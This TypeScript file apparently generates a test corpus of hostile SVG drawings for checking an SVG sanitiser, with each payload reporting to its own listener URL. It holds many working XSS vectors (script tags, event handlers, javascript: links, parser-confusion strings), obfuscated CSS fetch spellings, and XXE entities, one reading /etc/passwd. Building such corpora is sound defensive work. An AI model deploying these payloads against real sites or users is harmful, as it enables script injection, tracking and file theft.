/** Where a drawing that runs something or reaches out is heard; `run` is what its script does. */
export interface Ear {
  readonly url: string;
  readonly run: string;
}
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const attribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;');

/** Values that have a browser fetch `u`, in every spelling of them that somebody thought of. */
const FETCHES: readonly ((u: string) => string)[] = [
  (u) => `image-set(linear-gradient(red,blue) 3x, "${u}" 1x)`,
  (u) => `image-set(/**/"${u}" 1x)`,
  (u) => `image-set( "${u}")`,
  (u) => `image-set('${u}' type("image/png"), "#a" 2x)`,
  (u) => `-webkit-image-set(url("${u}") 1x)`,
  (u) => `-webkit-image-set(/* ) */ "${u}" 1x)`,
  (u) => `IMAGE-SET(var(--none, "${u}") 1x)`,
  (u) => `\\69mage-set("${u}" 1x)`,
  (u) => `ur\\6c("${u}")`,
  (u) => `url(/**/"${u}")`,
  (u) => `url( "${u}" )`,
  (u) => `url(\n${u}\n)`,
  (u) => `URL('${u}'`,
  (u) => `linear-gradient(red,blue),url(#a),url(${u})`,
  (u) => `cross-fade(linear-gradient(red,blue), "${u}")`,
  (u) => `-webkit-cross-fade(url(${u}),url(${u}),50%)`,
  (u) => `image("${u}")`,
  (u) => `image(ltr "${u}", red)`,
  (u) => `src("${u}")`,
  (u) => `src(var(--none,"${u}"))`,
  (u) => `attr(data-u type(<url>), url("${u}"))`,
  (u) => `var(--none, url(${u}))`,
  (u) => `var(--none, image-set("${u}" 1x))`,
  (u) => `paint(x, url(${u}))`,
  (u) => `"unclosed\n;background-image:url(${u})`,
];

/** Each of them in a sheet and in a style, and those of a custom property that is used in another place. */
function sheetsAndStyles(): ((ear: Ear) => string)[] {
  const rect = (style: string) => `<rect width="9" height="9" style="${attribute(style)}"/>`;
  const sheet = (css: string) => `<style>${css}</style>`;
  return [
    ...FETCHES.flatMap((fetches) => [
      ({ url }: Ear) => sheet(`svg{background-image:${fetches(`${url}/s`)}}`),
      ({ url }: Ear) =>
        `<svg style="${attribute(`background-image:${fetches(`${url}/s`)}`)}"/>${rect(`mask-image:${fetches(`${url}/m`)};cursor:${fetches(`${url}/c`)},auto`)}`,
    ]),
    ({ url }) => sheet(`svg{--u:"${url}/u" 1x;background-image:image-set(var(--u))}`),
    ({ url }) => `<svg style="${attribute(`--u:"${url}/u" 1x;background-image:image-set(var(--u))`)}"/>`,
    ({ url }) => sheet(`svg{--u:"${url}/u"}`) + sheet('svg{background-image:-webkit-image-set(var(--u) 1x)}'),
    ({ url }) => sheet(`svg{--u:url(${url}/u)}`) + '<svg style="background-image:var(--u)"/>',
    ({ url }) =>
      sheet(`@property --u{syntax:"<image>";inherits:true;initial-value:url(${url}/p)} svg{background:var(--u)}`),
    ({ url }) => sheet(`@media all{@import "${url}/i";} @IMPORT'${url}/j'; @import/**/"${url}/k" layer(x);`),
    ({ url }) => sheet(`@\\69mport "${url}/i"; @charset "utf-8"; @import url(${url}/j) screen;`),
    ({ url }) => sheet(`@namespace url(${url}/n); svg{fill:red}`),
    ({ url }) => sheet(`/*"*/svg{background:url(${url}/a)}/*"*/ svg{mask:url('#a'), url(${url}/b)}`),
    ({ url }) => sheet(`svg{font-family:"*/";background:url(${url}/a);content:"/*"}`),
    ({ url }) => sheet(`svg{font-family:'a\n';background:url(${url}/a);font-family:'b'}`),
    ({ url }) => `<svg style="font-family:'a\n';background-image:url(${url}/a);font-family:'b'"/>`,
    ({ url }) => `<svg style="font-family:'a&#10;url(#';background-image:url(${url}/a);b:')'"/>`,
    ({ url }) =>
      sheet(`@supports (display:block){svg{& {background:url(${url}/a)}}} @layer a{svg{background:url(${url}/b)}}`),
    ({ url }) => sheet(`@keyframes k{to{background-image:url(${url}/k)}} svg{animation:k 1ms forwards}`),
    ({ url }) =>
      sheet(`@font-face/**/{font-family:q;src:local(x),url(${url}/f)format("woff2")} text{font-family:q}`) +
      '<text>x</text>',
    ({ url }) =>
      sheet(
        `svg::before{content:image-set("${url}/a" 1x)} rect{filter:url("${url}/f#f");clip-path:url(${url}/c#c);marker:url('${url}/m#m')}`,
      ) + rect('filter:url(&quot;)'),
    ({ url }) =>
      `<rect width="9" height="9" cursor="image-set(&quot;${url}/c&quot; 1x),auto" mask="-webkit-image-set(/**/'${url}/m' 1x)"/>`,
    ({ url }) =>
      `<rect width="9" height="9" fill="var(--none,url(${url}/v#v))" filter="blur(1px) url('${url}/f#f')" marker="url(/**/${url}/m#m)"/>`,
  ];
}

/** What is put into a drawing, beside a path that is to stay: of the lists that sanitisers are tested with. */
const INSIDE: readonly ((ear: Ear) => string)[] = [
  ({ run }) => `<script>${run}</script>`,
  ({ run }) => `<script type="text/ecmascript"><![CDATA[${run}]]></script>`,
  ({ run }) => `<SCRIPT>${run}</SCRIPT><sCrIpT>${run}</sCrIpT>`,
  ({ url }) => `<script href="${url}/a.js"/><script xlink:href="${url}/b.js"></script>`,
  ({ run }) => `<x:script xmlns:x="http://www.w3.org/2000/svg">${run}</x:script>`,
  ({ run }) => `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  ({ run }) =>
    `<g><script>${run}</script></g><defs><script>${run}</script></defs><metadata><script>${run}</script></metadata>`,
  ({ run }) => `<svg onload="${run}"/><g onload="${run}"/><style onload="${run}"/>`,
  ({ run }) => `<image href="x:none" onerror="${run}"/><image xlink:href="x:none" onerror="${run}"/>`,
  ({ run }) => `<animate onbegin="${run}" attributeName="x" dur="1s"/><set onbegin="${run}" attributeName="x" to="0"/>`,
  ({ run }) =>
    `<rect width="1" height="1"><animate attributeName="x" dur="1ms" onend="${run}" onrepeat="${run}" repeatCount="2"/></rect>`,
  ({ run }) =>
    `<animateTransform onbegin="${run}" attributeName="transform" dur="1s"/><animateMotion onbegin="${run}" dur="1s"/><discard onbegin="${run}"/>`,
  ({ run }) =>
    `<a xlink:href="javascript:${run}"><rect width="9" height="9"/></a><a href="java&#9;script:${run}"><text>x</text></a>`,
  ({ run }) =>
    `<a><set attributeName="href" to="javascript:${run}"/><animate attributeName="xlink:href" values="javascript:${run}"/><text>x</text></a>`,
  ({ run }) =>
    `<text tabindex="0" autofocus="" onfocus="${run}">x</text><tspan onfocusin="${run}" autofocus="">x</tspan>`,
  ({ run }) =>
    `<foreignObject width="9" height="9"><body ${HTML} onload="${run}"><img src="x:none" onerror="${run}"/></body></foreignObject>`,
  ({ url, run }) =>
    `<foreignObject><iframe ${HTML} src="${url}/frame"/><iframe ${HTML} srcdoc="&lt;script&gt;${run}&lt;/script&gt;"/></foreignObject>`,
  ({ url }) => `<iframe ${HTML} src="${url}/f"/><embed ${HTML} src="${url}/e"/><object ${HTML} data="${url}/o"/>`,
  ({ url, run }) =>
    `<video ${HTML} src="${url}/v" onerror="${run}"/><audio ${HTML} src="${url}/s" onerror="${run}"/><source ${HTML} src="${url}/q"/>`,
  ({ url, run }) =>
    `<img ${HTML} src="${url}/i" onerror="${run}"/><input ${HTML} autofocus="" onfocus="${run}"/><details ${HTML} open="" ontoggle="${run}"/>`,
  ({ url }) =>
    `<link ${HTML} rel="stylesheet" href="${url}/l.css"/><link ${HTML} rel="preload" as="image" href="${url}/p"/><meta ${HTML} http-equiv="refresh" content="0;url=${url}/m"/>`,
  ({ url }) => `<base ${HTML} href="${url}/"/><image href="relative.png"/>`,
  ({ url }) =>
    `<image href="${url}/i.png" width="9" height="9"/><image xlink:href="${url}/j.png" width="9" height="9"/>`,
  ({ url }) => `<g xml:base="${url}/"><image xlink:href="k.png" width="9" height="9"/></g>`,
  ({ url }) => `<use href="${url}/u.svg#a"/><use xlink:href="${url}/w.svg#a"/>`,
  ({ run }) =>
    `<use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}#x"/>`,
  ({ run }) =>
    `<image href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`)}" width="9" height="9"/>`,
  ({ url }) => `<filter id="f"><feImage href="${url}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ({ url }) =>
    `<tref xlink:href="${url}/t"/><cursor xlink:href="${url}/c"/><font-face-uri xlink:href="${url}/n"/><color-profile xlink:href="${url}/p"/>`,
  ({ url }) => `<g xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad" xlink:href="${url}/x"/>`,
  ({ url }) => `<style>@import '${url}/a.css';</style><style>@import url("${url}/b.css");</style>`,
  ({ url }) => `<style>@font-face{font-family:q;src:url(${url}/f.woff2)} text{font-family:q}</style><text>x</text>`,
  ({ url }) =>
    `<style>rect{fill:red;background-image:url(${url}/b);mask-image:url(${url}/m);cursor:url(${url}/c),auto}</style><rect width="9" height="9"/>`,
  ({ url }) => `<style>#kept{mask:url(${url}/k.svg#m)} g{background:image-set("${url}/s" 1x)}</style><g/>`,
  ({ url }) => `<style>svg{background:u\\72l(${url}/e)} @\\69mport '${url}/i';</style>`,
  ({ url }) =>
    `<style>svg{list-style-image:\\75\\72\\6c(${url}/l);content:url(${url}/d)} svg:hover{background:url(${url}/h)}</style>`,
  ...sheetsAndStyles(),
  ({ url }) => `<rect width="9" height="9" style="background-image:url('${url}/a');mask-image:url(${url}/b)"/>`,
  ({ url }) =>
    `<rect width="9" height="9" fill="url(${url}/p.svg#p)" stroke="url(${url}/q.svg#p)" clip-path="url(${url}/c.svg#c)"/>`,
  ({ url }) =>
    `<rect width="9" height="9" mask="url(${url}/m.svg#m)" filter="url(${url}/f.svg#f)" marker-start="url(${url}/k.svg#k)"/>`,
  ({ run }) => `<style><img src="x:none" onerror="${run}"/></style>`,
  ({ run }) => `<style>&lt;/style>&lt;img src=x onerror=${run}></style>`,
  ({ run }) => `<style><a id="</style><img src=x:none onerror=${run}>"></a></style>`,
  ({ run }) => `<title><a id="</title><img src=x:none onerror=${run}>"></a></title>`,
  ({ run }) => `<desc><![CDATA[</desc><script>${run}</script>]]></desc>`,
  ({ run }) => `</svg><img src="x:none" onerror="${run}"><svg>`,
  ({ run }) => `</p><style><!--</style><img title="--&gt;&lt;img src=x:none onerror=${run}&gt;">`,
  ({ run }) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:none onerror=${run}&gt;"></mglyph></table></mtext></math>`,
  ({ run }) => `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  ({ run }) => `<form><math><mtext></form><form><mglyph><style></math><img src=x:none onerror=${run}>`,
  ({ run }) => `<noscript><p title="</noscript><img src=x:none onerror=${run}>"></noscript>`,
  ({ run }) => `<template><script>${run}</script></template><xmp><script>${run}</script></xmp><plaintext>`,
  ({ run }) => `<g data-a="--><script>${run}</script>"/><!-- --!><script>${run}</script> -->`,
  ({ run }) => `<!--><script>${run}</script>--><!---><script>${run}</script>-->`,
  ({ run }) => `<![CDATA[]]><script>${run}</script><![CDATA[>]]>`,
  ({ run }) => `<g onl&#111;ad="${run}"/><g/onload="${run}"/><g\u000conload="${run}"/>`,
  ({ run }) => `<scr\u0000ipt>${run}</scr\u0000ipt><script/x>${run}</script><script\n>${run}</script\n>`,
  ({ run }) =>
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${run}</handler><listener event="load" handler="#h"/>`,
  ({ run }) =>
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><script ${HTML}>${run}</script></foreignObject><g/></switch>`,
  ({ run }) => `<svg><svg><svg onload="${run}"><script>${run}</script></svg></svg></svg>`,
  ({ run }) => `<g id="a" href="#"/><animate href="#a" attributeName="href" from="javascript:${run}" to="#"/>`,
  ({ url }) =>
    `<image srcset="${url}/s 1x" href="#" width="9" height="9"/><g ping="${url}/p" poster="${url}/q" background="${url}/r"/>`,
];
/** Around a drawing: in front of its root, and at it. */
const AROUND: readonly ((ear: Ear, inside: string) => string)[] = [
  ({ url }, inside) =>
    `<?xml-stylesheet type="text/xsl" href="${url}/s.xsl"?><?xml-stylesheet type="text/css" href="${url}/s.css"?>${root(inside)}`,
  ({ url }, inside) => `<!DOCTYPE svg PUBLIC "-//X//EN" "${url}/x.dtd">${root(inside)}`,
  ({ run }, inside) => `<!DOCTYPE svg [<!ENTITY s "<script>${attribute(run)}</script>">]>${root(`${inside}&s;`)}`,
  ({ url }, inside) =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${url}/xxe"><!ENTITY % p SYSTEM "${url}/p">%p;]>${root(`${inside}<text>&x;</text>`)}`,
  (_, inside) => `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${root(`${inside}<text>&f;</text>`)}`,
  ({ run }, inside) => root(inside, `onload="${run}" onbegin="${run}" onfocusin="${run}" tabindex="0" autofocus=""`),
  ({ url }, inside) => root(inside, `style="background:url(${url}/b)" xml:base="${url}/"`),
  ({ run }, inside) => `<svg xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></svg>${root(inside)}`,
  ({ run }, inside) => `<html ${HTML}><body><script>${run}</script>${root(inside)}</body></html>`,
];

/** What a cleaned drawing still has. */
export const KEPT = 'kept';
function root(inside: string, more = ''): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${more}><path id="${KEPT}" d="M0 0h9v9z"/>${inside}</svg>`;
}

/** The drawings; each has an ear of its own, so that it is told which one was heard. */
export function hostileDrawings(earOf: (n: number) => Ear): string[] {
  const makers = [
    ...INSIDE.map((make) => (ear: Ear) => root(make(ear))),
    ...AROUND.map((make) => (ear: Ear) => make(ear, '')),
  ];
  return makers.map((make, n) => make(earOf(n)));
}
